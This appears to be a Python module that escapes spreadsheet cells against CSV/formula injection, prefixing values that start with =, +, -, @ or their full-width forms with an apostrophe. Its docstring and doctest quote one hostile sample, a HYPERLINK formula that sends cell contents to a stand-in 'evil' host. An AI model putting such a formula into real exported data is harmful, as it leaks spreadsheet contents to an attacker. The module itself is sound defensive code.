"""Text for spreadsheet cells: a value Excel or WPS would run as a formula is written as text.

Example::

    >>> spreadsheet_text('=HYPERLINK("http://evil/?"&A1,"click")')
    '\\'=HYPERLINK("http://evil/?"&A1,"click")'
    >>> spreadsheet_text("+86 22 2953 0000"), spreadsheet_text("-12.5"), spreadsheet_text("-")
    ("'+86 22 2953 0000", '-12.5', '-')
    >>> spreadsheet_row(["120114001000", "@SUM(A1)", -3, None])
    ['120114001000', "'@SUM(A1)", -3, None]

    spreadsheet_texts(table["source_key"])    # the same rule on an Arrow column, vectorised

Every CSV or XLSX file the product writes for people to open in a spreadsheet passes its text
cells through this module (today ``onceonly quarantine report -o``). Department data is not
trusted: a source key ``=HYPERLINK("http://evil/?"&A1,"click")`` written as it is becomes a
live formula in the department's Excel (issue "Hostile input"; CWE-1236).

The rule, one place for every writer:

* Text that starts with ``=`` ``+`` ``-`` ``@`` or their full-width forms ``＝`` ``＋`` ``－``
  ``＠``, after any spaces (ASCII or the ideographic U+3000, which an import that trims spaces
  removes), or that starts with a tab, carriage return or line feed, gets a leading apostrophe:
  the spreadsheet reads the cell as text. The characters are those of OWASP WSTG-INPV-21
  ("Testing for CSV Injection"), which names the full-width variants too: Excel and WPS in East
  Asian locales take them for the half-width ones, and a Chinese input method types them.
* Except a negative number written plainly (``-12``, ``-0.5``): a spreadsheet reads it as that
  number and no formula hides in digits. And a lone ``-``, the usual "none" (the product prints
  it itself): an operator without operand computes nothing. ``+`` followed by digits is escaped:
  it is a phone number (``+8613812341234``), which the apostrophe keeps as text where Excel
  would turn it into a number without its ``+``.
* A value that is not text (int, float, Decimal, date, None) is left as it is: a writer that
  types a number keeps a number.

The apostrophe is part of the CSV field: a program reading the file sees it; a spreadsheet
shows the text (Excel may show the apostrophe too). An XLSX writer must also write text as
text: openpyxl stores any string starting with ``=`` as a formula (its "Simple usage" docs,
``ws["A1"] = "=SUM(1, 1)"``); an XLSX cell's apostrophe is a style (``quotePrefix``), not content.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, TypeVar

if TYPE_CHECKING:
    import pyarrow as pa

# One pattern for Python's re and Arrow's RE2: literal characters, no engine-specific classes
# (RE2's \s and \d are ASCII, Python's are Unicode).
_FORMULA_START = "^(?:[\t\r\n]|[ \u3000]*[=+\\-@\uff1d\uff0b\uff0d\uff20])"
# Whole value: Python matches it with fullmatch, Arrow between ^ and $ (RE2's $ is the end of
# the text; Python's would also match before a final line feed).
_INERT = "-(?:[0-9]+(?:\\.[0-9]+)?)?"
_QUOTE = "'"

_formula_start = re.compile(_FORMULA_START)
_inert = re.compile(_INERT)

_Column = TypeVar("_Column", "pa.Array", "pa.ChunkedArray")


def spreadsheet_text(text: str) -> str:
    """``text`` as a spreadsheet reads it as text: with a leading ``'`` where it would start a
    formula (the rule in the module docstring)."""
    if _formula_start.match(text) and not _inert.fullmatch(text):
        return _QUOTE + text
    return text


def spreadsheet_row(values: Iterable[object]) -> list[object]:
    """A row for a CSV or XLSX writer: each text through :func:`spreadsheet_text`, other values
    (numbers, dates, None) as they are."""
    return [spreadsheet_text(v) if isinstance(v, str) else v for v in values]


def spreadsheet_texts(column: _Column) -> _Column:
    """:func:`spreadsheet_text` on each value of an Arrow column, vectorised; nulls stay null.

    A column that is not text (numbers, dates) is returned as it is; a dictionary-encoded or
    string-view text column is decoded to plain text first."""
    import pyarrow as pa
    import pyarrow.compute as pc

    kind = column.type
    if pa.types.is_dictionary(kind):
        kind = kind.value_type
        column = column.cast(kind)
    if pa.types.is_string_view(kind):  # the compute kernels below take offsets, not views
        kind = pa.large_string()
        column = column.cast(kind)
    if not (pa.types.is_string(kind) or pa.types.is_large_string(kind)):
        return column
    starts = pc.match_substring_regex(column, _FORMULA_START)
    inert = pc.match_substring_regex(column, f"^(?:{_INERT})$")
    quoted = pc.binary_join_element_wise(pa.scalar(_QUOTE, kind), column, pa.scalar("", kind))
    return pc.if_else(pc.and_not(starts, inert), quoted, column)


__all__ = ["spreadsheet_row", "spreadsheet_text", "spreadsheet_texts"]
